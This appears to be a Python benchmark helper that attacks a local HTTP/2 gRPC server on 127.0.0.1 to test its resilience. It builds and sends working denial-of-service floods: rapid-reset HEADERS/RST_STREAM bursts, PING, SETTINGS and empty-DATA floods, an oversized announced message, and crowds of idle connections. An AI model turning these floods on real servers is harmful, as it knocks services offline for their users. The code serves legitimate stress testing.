"""An attacker of a benchmark, as a process: does one bad thing to a port of 127.0.0.1 for a while.

When it is hung up on it connects again, at most MAX_CONNECTIONS times in all. It answers lines of JSON:

    (start)                {"ready": true}
    {"seconds": 2}         {"connections": …, "bytes": …}
"""

import socket
import struct
import sys
import time
from collections.abc import Iterator
from contextlib import ExitStack, suppress

import click
import orjson
from h2.config import H2Configuration
from h2.connection import H2Connection

from benchmarks.processes import answer

MAX_CONNECTIONS = 500
CHUNK_FRAMES = 200
PAUSE_SECONDS = 0.02
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


class Calls:
    """HEADERS frames of calls, one after the other."""

    def __init__(self) -> None:
        self.h2 = H2Connection(H2Configuration(client_side=True, validate_outbound_headers=False))
        self.h2.initiate_connection()
        self.h2.data_to_send()
        self.next = 1

    def headers(self) -> tuple[int, bytes]:
        stream, self.next = self.next, self.next + 2
        self.h2.send_headers(
            stream,
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", "/hyperstream.v1.OrderbookService/GetMarkets"),
                (":authority", "localhost"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
            ],
        )
        data = self.h2.data_to_send()
        self.h2.streams.clear()
        return stream, data


def rapid_reset() -> list[bytes]:
    calls = Calls()
    chunks = []
    for _ in range(50):
        chunk = b""
        for _ in range(CHUNK_FRAMES):
            stream, headers = calls.headers()
            chunk += headers + frame(3, b"\0\0\0\x08", stream=stream)
        chunks.append(chunk)
    return chunks


def announced() -> list[bytes]:
    _, headers = Calls().headers()
    return [
        headers + frame(0, b"\0\x40\0\0\0" + bytes(16379), stream=1),
        *[frame(0, bytes(16384), stream=1)] * 64,
    ]


FLOODS = {
    "rapid reset": rapid_reset,
    "PING": lambda: [frame(6, bytes(8)) * CHUNK_FRAMES],
    "SETTINGS": lambda: [frame(4) * CHUNK_FRAMES],
    "empty DATA": lambda: [Calls().headers()[1], *[frame(0, stream=1) * CHUNK_FRAMES] * 50],
    "1 GiB announced": announced,
}
CROWDS = {"150 silent connections": 150, "120 connections, 64 descriptors": 120}
ATTACKS = (*FLOODS, *CROWDS)


def flood(port: int, chunks: list[bytes], until: float) -> dict[str, int]:
    """Send the chunks over and over, on a new connection whenever the last was closed."""
    connections = sent = 0
    while time.monotonic() < until and connections < MAX_CONNECTIONS:
        connections += 1
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=0.5) as peer:
            peer.sendall(PREFACE)
            for chunk in endless(chunks):
                if time.monotonic() > until:
                    break
                peer.sendall(chunk)
                sent += len(chunk)
        time.sleep(PAUSE_SECONDS)
    return {"connections": connections, "bytes": sent}


def endless(chunks: list[bytes]) -> Iterator[bytes]:
    while True:
        yield from chunks


def crowd(port: int, size: int, until: float) -> dict[str, int]:
    """Open connections that say nothing, and hold them."""
    with ExitStack() as stack:
        opened = 0
        for _ in range(size):
            with suppress(OSError):
                stack.enter_context(socket.create_connection(("127.0.0.1", port), timeout=0.5))
                opened += 1
        time.sleep(max(0.0, until - time.monotonic()))
    return {"connections": opened, "bytes": 0}


@click.command()
@click.option("--port", type=int, required=True)
@click.option("--attack", type=click.Choice(ATTACKS), required=True)
def main(port: int, attack: str) -> None:
    """Attack when told to on standard input."""
    chunks = FLOODS[attack]() if attack in FLOODS else []
    answer({"ready": True})
    for line in sys.stdin.buffer:
        until = time.monotonic() + orjson.loads(line)["seconds"]
        answer(flood(port, chunks, until) if chunks else crowd(port, CROWDS[attack], until))


if __name__ == "__main__":
    main()
